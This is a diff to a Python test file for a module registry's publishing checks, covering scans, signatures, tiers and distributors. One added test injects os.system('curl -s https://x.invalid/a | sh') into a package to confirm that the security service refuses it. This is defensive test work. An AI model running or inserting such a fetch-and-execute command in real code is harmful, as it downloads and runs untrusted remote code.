@@ -17,9 +17,10 @@ from plataforma_sdk.errors import (
     VersionConflictError,
 )
 from plataforma_sdk.plugins import hookimpl
-from plataforma_sdk.registry import ModuleRegistry, PublishStep
+from plataforma_sdk.registry import PublishStep
 from plataforma_sdk.registry.backends import MemoryBackend
-from tests.unit.registry._doubles import FakeScanner, FakeSigner, FakeVerifier, RemoteBackend, Report
+from plataforma_sdk.security import SecurityService
+from tests.unit.registry._doubles import FakeScanner, FakeSigner, FakeVerifier, RemoteBackend, Report, open_registry
 
 
 @pytest.fixture
@@ -29,7 +30,7 @@ def backend():
 
 @pytest.fixture
 def registry(backend, tmp_path):
-    return ModuleRegistry(backend, cache_dir=tmp_path / "cache")
+    return open_registry(backend, cache_dir=tmp_path / "cache")
 
 
 def is_empty(backend) -> bool:
@@ -78,7 +79,7 @@ def test_publishing_twice_changes_nothing(registry, backend, make_package):
 
 def test_other_content_of_a_published_version_is_refused_before_it_is_scanned(backend, make_package):
     scanner = FakeScanner()
-    registry = ModuleRegistry(backend, security=scanner)
+    registry = open_registry(backend, security=scanner)
     asyncio.run(registry.publish(make_package()))
     with pytest.raises(VersionConflictError, match=r"raise the version in module\.toml"):
         asyncio.run(registry.publish(make_package(files={"a.txt": b"other"})))
@@ -96,19 +97,20 @@ def test_a_dry_run_goes_as_far_as_the_build_and_stores_nothing(registry, backend
 def test_a_failed_scan_refuses_with_what_to_mend(backend, make_package):
     report = Report(passed=False, risk_level="high", recommendations=["vendas.py:3: do not"])
     with pytest.raises(SecurityScanError, match=r"risk: high(?s:.*)\n  vendas\.py:3: do not"):
-        asyncio.run(ModuleRegistry(backend, security=FakeScanner(report)).publish(make_package()))
+        asyncio.run(open_registry(backend, security=FakeScanner(report)).publish(make_package()))
     assert is_empty(backend)
 
 
-def test_without_a_scanner_a_permission_that_is_not_declared_refuses(registry, backend, make_package):
-    source = make_package().sources["vendas.py"].replace("self.total = 0", 'await self.api_call("/vendas/x")')
-    with pytest.raises(SecurityScanError, match="undeclared-permission"):
+def test_the_security_service_refuses_what_takes_a_shell(backend, make_package):
+    registry = open_registry(backend, security=SecurityService(trial=False, tools=False))
+    source = make_package().sources["vendas.py"] + "\nimport os\nos.system('curl -s https://x.invalid/a | sh')\n"
+    with pytest.raises(SecurityScanError, match=r"vendas\.py:\d+: os\.system"):
         asyncio.run(registry.publish(make_package(source=source)))
     assert is_empty(backend)
 
 
 def test_the_report_of_the_scan_is_published_beside_the_module(backend, make_package):
-    registry = ModuleRegistry(backend, security=FakeScanner())
+    registry = open_registry(backend, security=FakeScanner())
     asyncio.run(registry.publish(make_package()))
     (release,) = asyncio.run(registry.versions("vendas")).releases
     assert asyncio.run(registry.attachment(release, "scan")) == b'{"by": "a fake"}'
@@ -130,7 +132,7 @@ def test_a_dependency_that_was_never_published_refuses(registry, backend, make_p
     ids=["trusted", "restricted"],
 )
 def test_a_tier_that_cannot_compile_it_refuses(backend, make_package, source, error, text):
-    registry = ModuleRegistry(backend, security=FakeScanner())
+    registry = open_registry(backend, security=FakeScanner())
     with pytest.raises(error, match=text):
         asyncio.run(registry.publish(make_package(source=source)))
     assert is_empty(backend)
@@ -138,7 +140,7 @@ def test_a_tier_that_cannot_compile_it_refuses(backend, make_package, source, er
 
 def test_a_tier_that_the_manifest_excludes_is_not_checked(backend, make_package):
     package = make_package(source="class Vendas: ...\nVendas.__subclasses__()\n", more='exclude = ["restricted"]')
-    result = asyncio.run(ModuleRegistry(backend, security=FakeScanner()).publish(package))
+    result = asyncio.run(open_registry(backend, security=FakeScanner()).publish(package))
     assert result.checks == {"trusted": "passed", "restricted": "excluded by the manifest", "wasm": "passed"}
 
 
@@ -149,7 +151,7 @@ def test_a_binary_that_imports_what_no_host_gives_is_refused(backend, make_packa
     binary = bytes(wat2wasm('(module (import "env" "system" (func)))'))
     package = type(make_package()).from_files({"module.toml": toml, "vendas.wasm": binary})
     with pytest.raises(ModuleLoadError, match="system"):
-        asyncio.run(ModuleRegistry(backend, security=FakeScanner()).publish(package))
+        asyncio.run(open_registry(backend, security=FakeScanner()).publish(package))
     assert is_empty(backend)
 
 
@@ -171,7 +173,7 @@ def test_a_name_that_belongs_to_a_key_is_refused_to_others(registry, make_packag
 
 
 def test_a_signature_that_readers_would_refuse_is_not_published(backend, make_package):
-    registry = ModuleRegistry(backend, trust=FakeVerifier(FakeSigner("ed25519:" + "b2" * 32)))
+    registry = open_registry(backend, trust=FakeVerifier(FakeSigner("ed25519:" + "b2" * 32)))
     with pytest.raises(IntegrityError, match="not signed"):
         asyncio.run(registry.publish(make_package(), signer=FakeSigner()))
     assert is_empty(backend)
@@ -196,14 +198,14 @@ class Distributing:
 
 def test_a_distributor_is_handed_the_release_and_says_where_it_lies(backend, make_package):
     plugin = Distributing()
-    registry = ModuleRegistry(backend, plugins=[plugin])
+    registry = open_registry(backend, plugins=[plugin])
     result = asyncio.run(registry.publish(make_package()))
     assert result.download_url == "https://cdn.example/vendas.zip"
     assert plugin.seen == [("memory:", "vendas", result.size_bytes)]
 
 
 def test_a_distributor_that_fails_leaves_the_version_published_and_says_so(backend, make_package):
-    registry = ModuleRegistry(backend, plugins=[Distributing(OSError("no network"))])
+    registry = open_registry(backend, plugins=[Distributing(OSError("no network"))])
     result = asyncio.run(registry.publish(make_package()))
     assert result.success
     assert "no network" in result.warnings[0]
@@ -214,7 +216,7 @@ def test_a_registry_that_cannot_be_reached_is_said_before_the_scan(make_package,
     backend, scanner = RemoteBackend(), FakeScanner()
     backend.is_cut = True
     with pytest.raises(Exception, match="cannot be reached"):
-        asyncio.run(ModuleRegistry(backend, security=scanner, cache_dir=tmp_path).publish(make_package()))
+        asyncio.run(open_registry(backend, security=scanner, cache_dir=tmp_path).publish(make_package()))
     assert scanner.seen == []
 
 
